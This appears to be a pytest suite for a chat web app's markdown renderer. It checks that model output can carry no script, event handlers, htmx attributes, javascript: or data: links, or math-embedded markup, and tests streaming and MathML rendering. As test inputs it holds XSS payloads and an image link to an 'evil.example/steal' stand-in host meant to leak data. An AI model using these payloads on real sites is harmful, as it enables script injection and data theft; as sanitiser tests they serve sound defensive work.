"""Model output is untrusted: markdown renders, nothing executable or fetchable survives."""

import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conversations.rendering import render_markdown


def parse(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """Every element the browser would build from this HTML, with its attributes."""
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, [(name, value or "") for name, value in attrs]))

    Collector().feed(html)
    return found


def test_markdown_renders_code_tables_and_lists():
    html = render_markdown(
        "# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1 < 2\n```"
    )
    assert "<h1>Title</h1>" in html
    assert "<li>one</li>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<pre data-lang="python"><code>' in html
    assert "x = 1 &lt; 2\n</code></pre>" in re.sub(r"</?span[^>]*>", "", html), "escaped"


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="#" onclick="alert(1)">x</a>',
        '<div hx-get="/c/new/" hx-trigger="load">x</div>',
        '<p style="background:url(http://evil/)">x</p>',
        "<iframe src='http://evil/'></iframe>",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
    ],
)
def test_nothing_executable_survives(source):
    tags = parse(render_markdown(source))
    for tag, attrs in tags:
        assert tag not in {"script", "img", "iframe", "style"}, (source, tags)
        for name, value in attrs:
            assert not name.startswith(("on", "hx-", "data-hx")) and name != "style", (source, tags)
            if name == "href":
                assert value.startswith(("http:", "https:", "mailto:", "#")), (source, tags)


def test_markdown_image_becomes_a_link_not_an_image():
    html = render_markdown("![secret](http://evil.example/steal?d=abc)")
    assert "<img" not in html
    assert 'href="http://evil.example/steal?d=abc"' in html
    assert "[secret]" in html


def test_links_get_noopener():
    html = render_markdown("[docs](https://example.com)")
    assert 'rel="noopener noreferrer nofollow"' in html


def test_fenced_code_is_highlighted_labelled_and_still_escaped():
    html = render_markdown('```python\nprint("<b>hi</b>")\n```')
    assert html.startswith('<pre data-lang="python"><code><span class="nb">print</span>')
    assert "&lt;b&gt;hi&lt;/b&gt;" in html and "<b>" not in html
    # An unknown language is labelled and left plain; a hostile info string is no label.
    assert render_markdown("```klingon\n<i>\n```") == (
        '<pre data-lang="klingon"><code>&lt;i&gt;\n</code></pre>\n'
    )
    hostile = render_markdown('```"><script>alert(1)</script>\nx\n```')
    assert hostile == "<pre><code>x\n</code></pre>\n"
    # Only Pygments' own classes survive on a span (model output cannot add any).
    assert 'class="evil"' not in render_markdown("```python\nx = 1\n```")


def test_the_code_stylesheet_is_what_pygments_makes():
    """static/qwenweb/pygments.css is generated: regenerate it with
    `python -m conversations.rendering > static/qwenweb/pygments.css`."""
    from pathlib import Path

    from conversations.rendering import code_stylesheet

    css = (Path(__file__).resolve().parent.parent / "static/qwenweb/pygments.css").read_text()
    assert css == code_stylesheet()
    assert ':root[data-theme="dark"] .markdown pre .k {' in css


# -- formatting while a reply streams (settled_blocks) --------------------------------------------

STREAMED = [
    "# Fake report\n\nThe **numbers** are in.\n\n## Details\nSome *text* here\nand a second line.\n"
    "\n- one\n- two\n  - nested\n- three\n\nAfter the list.\n",
    "Steps:\n\n1. **First**: do this.\n\n2. **Second**: do that.\n\n10. Tenth.\n\nDone.",
    "Here is code:\n```python\ndef f(x):\n    return x < 2\n```\nAnd more text\n\n"
    "~~~\nplain\n~~~\n",
    "| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |\n\ntext\nmore\n| c | d |\n|---|---|\n| 5 | 6 |\n",
    "Title\n=====\n\nSub\n---\n\n> quoted\n> lines\n\n---\n\n    indented code\n\nend",
    "你好！这是一个**测试**。\n\n- 第一\n- 第二\n\n| 列 | 值 |\n|---|---|\n| 甲 | 1 |\n",
    "```js\nunclosed fence that never ends\nconsole.log(1)\n",
    "```\ncode\n```\n\n\n    indented after blank lines\n\n```\nagain\n```\n \n- list\n",
    "Line one\nline two\n\n\n\nafter blank lines\n* star\n* list\n\n+ plus\n",
    "Euler: $e^{i\\pi} + 1 = 0$ costs $5 and $10.\n\n$$\n\\int_0^1 x\\,dx = \\frac12\n$$\n\n"
    "Then \\(a\\) and\n\\[\nb^2\n\\]\nend\n\n$$\n\\text{<b>not closed}\n",
    "Before <img src=x onerror=alert(1)> and <script>alert(2)</script>\n\n"
    "[y](javascript:alert(3))\n\n![z](https://evil.example/leak)\n\n"
    "<div hx-get='/c/new/'>h</div>\n",
]


def _stream(text: str, step: int) -> tuple[list[tuple[int, int, str]], str]:
    """The pieces a reply's text is cut into as it arrives `step` characters at a time, each
    rendered on its own, and the render of what is left at the end."""
    from conversations.rendering import settled_blocks

    pieces, done = [], 0
    for end in range(step, len(text) + step, step):
        for cut in settled_blocks(text[:end], done):
            pieces.append((done, cut, render_markdown(text[done:cut])))
            done = cut
    return pieces, render_markdown(text[done:])


@pytest.mark.parametrize("text", STREAMED)
@pytest.mark.parametrize("step", [1, 3, 17])
def test_blocks_rendered_while_streaming_are_the_finished_render(text, step):
    """The end changes nothing a reader can see: the pieces rendered as they settled, then
    the rest, are the whole reply rendered at once; and a page that opens mid-reply, cutting
    the text where it stands, cuts it where the stream does."""
    from conversations.rendering import settled_blocks

    pieces, rest = _stream(text, step)
    assert "".join(html for _start, _end, html in pieces) + rest == render_markdown(text)
    cuts = {0} | {end for _start, end, _html in pieces}
    for end in range(1, len(text) + 1):
        assert set(settled_blocks(text[:end])) <= cuts, text[:end]


@pytest.mark.parametrize("text", STREAMED)
def test_the_block_parser_finds_the_blocks_a_whole_parse_does(text):
    """settled_blocks parses blocks alone (not the text inside them): at every length of a
    reply, its top-level blocks begin and end where a whole parse puts them."""
    from conversations.rendering import _block_parser, _markdown

    def blocks(parser, source):
        return [(t.type, t.map) for t in parser.parse(source) if t.level == 0 and t.nesting >= 0]

    for end in range(1, len(text) + 1):
        assert blocks(_block_parser(), text[:end]) == blocks(_markdown(), text[:end])
    assert all(t.type != "inline" or not t.children for t in _block_parser().parse(text))


def test_a_block_settles_only_when_nothing_later_can_change_it():
    from conversations.rendering import settled_blocks

    assert settled_blocks("para\n\n- a\n- b\n\nnext\n") == [6, 15]
    # "2" may yet become "2.", which would make the list above it loose: not settled.
    assert settled_blocks("1. a\n\n2") == []
    assert settled_blocks("1. a\n\n2. b\n") == []
    # A line still being written ("|---|-") may or may not make a table of the line above.
    assert settled_blocks("text\n| a | b |\n|---|-") == []
    assert settled_blocks("text\n| a | b |\n|---|---|\n") == [5]
    # A fence settles when its closing line is whole, whatever follows.
    assert settled_blocks("```py\nx = 1\n```") == []
    assert settled_blocks("```py\nx = 1\n```\nafter") == [16]
    assert settled_blocks("one line without its end") == []


# -- math ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "display"),
    [
        ("$F_n = F_{n-1} + F_{n-2}$", "inline"),
        ("\\(F_n = F_{n-1} + F_{n-2}\\)", "inline"),
        ("$$F_n = F_{n-1} + F_{n-2}$$", "block"),
        ("$$\nF_n = F_{n-1} + F_{n-2}\n$$", "block"),
        ("\\[\nF_n = F_{n-1} + F_{n-2}\n\\]", "block"),
    ],
)
def test_math_in_every_delimiter_qwen_writes_becomes_mathml(source, display):
    html = render_markdown(f"Fibonacci: {source}" if display == "inline" else source)
    assert f'<math display="{display}">' in html
    assert "<msub><mi>F</mi><mrow><mi>n</mi><mo>−</mo><mn>1</mn></mrow></msub>" in html
    assert "$" not in html and "\\" not in html, "no raw dollars or backslashes left"


def test_dollar_amounts_and_tex_that_does_not_parse_stay_text():
    assert render_markdown("It costs $5 and $10.") == "<p>It costs $5 and $10.</p>\n"
    assert render_markdown("Pay $ 5 $ now") == "<p>Pay $ 5 $ now</p>\n"
    html = render_markdown("$\\begin{matrix}$")
    assert "<math" not in html and "\\begin{matrix}" in html


def test_math_cannot_carry_markup_links_or_styles():
    html = render_markdown(
        "$\\text{<img src=x onerror=alert(1)> a < b}$ $\\href{javascript:alert(2)}{x}$ "
        "$\\style{background:url(https://evil.example/)}{y}$ $\\color{red}{z}$"
    )
    tags = parse(html)
    assert {tag for tag, _attrs in tags} <= {"p", "math", "mrow", "mtext", "mi", "mstyle"}
    for _tag, attrs in tags:
        assert {name for name, _value in attrs} <= {"display"}, attrs
    assert "&lt;img&nbsp;src=x&nbsp;onerror=alert(1)&gt;&nbsp;a&nbsp;&lt;&nbsp;b" in html


def test_a_process_has_the_common_highlighters_ready_before_it_serves(tmp_path):
    """The first code block of a language would otherwise stop every stream of the process
    while Pygments compiles the language's rules (tens of milliseconds). A fresh process, once
    it has loaded the application, has them all compiled; a rare language is not."""
    check = (
        "import qwenweb.asgi\n"
        "from pygments.lexer import RegexLexer\n"
        "from pygments.lexers import find_lexer_class_by_name as find\n"
        "from conversations.rendering import COMMON_LANGUAGES\n"
        "compiled = [issubclass(find(n), RegexLexer) for n in COMMON_LANGUAGES]\n"
        "ready = ['_tokens' in find(n).__dict__ for n in COMMON_LANGUAGES]\n"
        "print(sum(compiled), sum(ready), '_tokens' in find('cobol').__dict__)\n"
    )
    env = {
        **os.environ,
        "QWENWEB_DATA_DIR": str(tmp_path),
        "DJANGO_SETTINGS_MODULE": "qwenweb.settings",
    }
    out = subprocess.run(
        [sys.executable, "-c", check],
        cwd=Path(__file__).resolve().parent.parent,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr[-2000:]
    compiled, ready, rare = out.stdout.split()
    assert int(compiled) >= 12 and ready == compiled and rare == "False"  # (JSON's is no regex)
